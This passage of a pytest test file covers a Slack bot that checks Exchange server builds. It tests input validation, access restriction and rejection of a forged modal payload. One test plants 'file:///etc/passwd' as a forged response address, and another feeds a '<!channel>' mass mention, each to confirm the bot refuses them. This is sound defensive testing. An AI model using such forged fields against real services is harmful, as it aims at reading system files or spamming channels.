    assert where == {"channel": "C0INCIDENT", "response_url": fake.response_url("w")}
    host = app.host("exchange2016_cu22_nov21su")
    assert submit_modal(app, host, modal["private_metadata"]).status == 200
    answer = app.final("w")
    assert "15.1.2375.17" in dump(answer) and answer["replace_original"] is False  # below the watchlist card
    assert fake.calls_to("chat.postMessage") == []


@pytest.mark.parametrize(
    ("typed", "error"),
    [
        ("<!channel>", "mention"),
        ("two words", "one server per command"),
        ("help", "Type the server to check"),
        ("", "which server?"),
        ("x" * 400, "too long"),
    ],
)
def test_a_bad_entry_in_the_modal_is_shown_under_the_field_and_nothing_runs(
    app: SlackHarness, fake: FakeSlack, typed: str, error: str
) -> None:
    reply = submit_modal(app, typed, "{}")
    assert reply.status == 200
    body = reply.json()
    assert body["response_action"] == "errors" and set(body["errors"]) == {HOST_BLOCK}
    assert error in body["errors"][HOST_BLOCK] and len(body["errors"][HOST_BLOCK]) <= 150
    time.sleep(0.2)  # a job, had one started, would have answered by now
    assert fake.calls_to("chat.postMessage") == [] and app.store.history(typed or "x") == []


def test_a_forged_modal_answer_address_is_ignored(app: SlackHarness, fake: FakeSlack) -> None:
    host = app.host("exchange2016_cu22_nov21su")
    forged = json.dumps({"channel": ["C0"], "response_url": "file:///etc/passwd"})
    assert submit_modal(app, host, forged).status == 200
    (dm,) = fake.wait_for_calls("chat.postMessage", timeout=15)  # neither is used: a direct message instead
    assert dm.params["channel"] == "U0ALICE"
    assert submit_modal(app, host, "not json {").status == 200
    fake.wait_for_calls("chat.postMessage", count=2, timeout=15)
    shapeless = submit_modal(app, host, "{}", view={"id": "V1", "type": "modal", "callback_id": CALLBACK_ID})
    assert shapeless.status == 200 and shapeless.json()["response_action"] == "errors"


def test_when_the_modal_cannot_open_the_user_is_told_how_to_type_the_command(
    app: SlackHarness, fake: FakeSlack
) -> None:
    fake.fail_next("views.open", "expired_trigger_id")
    card = {"type": "message", "channel_id": "C0INCIDENT", "is_ephemeral": True}
    raw_click(app, {"action_id": CHECK_HOST, "value": "check"}, container=card, response="how")
    assert "/exchcheck" in app.final("how")["text"]
    assert fake.modals == []


def test_the_check_modal_is_not_opened_for_someone_not_allowed(
    make: Callable[..., SlackHarness], fake: FakeSlack
) -> None:
    app = make(allowed_users=frozenset({"U0BOB"}))
    card = {"type": "message", "channel_id": "C0INCIDENT", "is_ephemeral": True}
    raw_click(app, {"action_id": CHECK_HOST, "value": "check"}, container=card, response="no")
    assert "restricted to a list of users" in app.final("no")["text"]
    assert fake.modals == []
    host = app.host("exchange2016_cu22_nov21su")  # a submission made anyway is refused by the same gate
    assert (
        submit_modal(app, host, json.dumps({"channel": "C0INCIDENT", "response_url": fake.response_url("no2")})).status
        == 200
    )
    assert "restricted to a list of users" in app.final("no2")["text"]
    assert app.store.history(host) == []
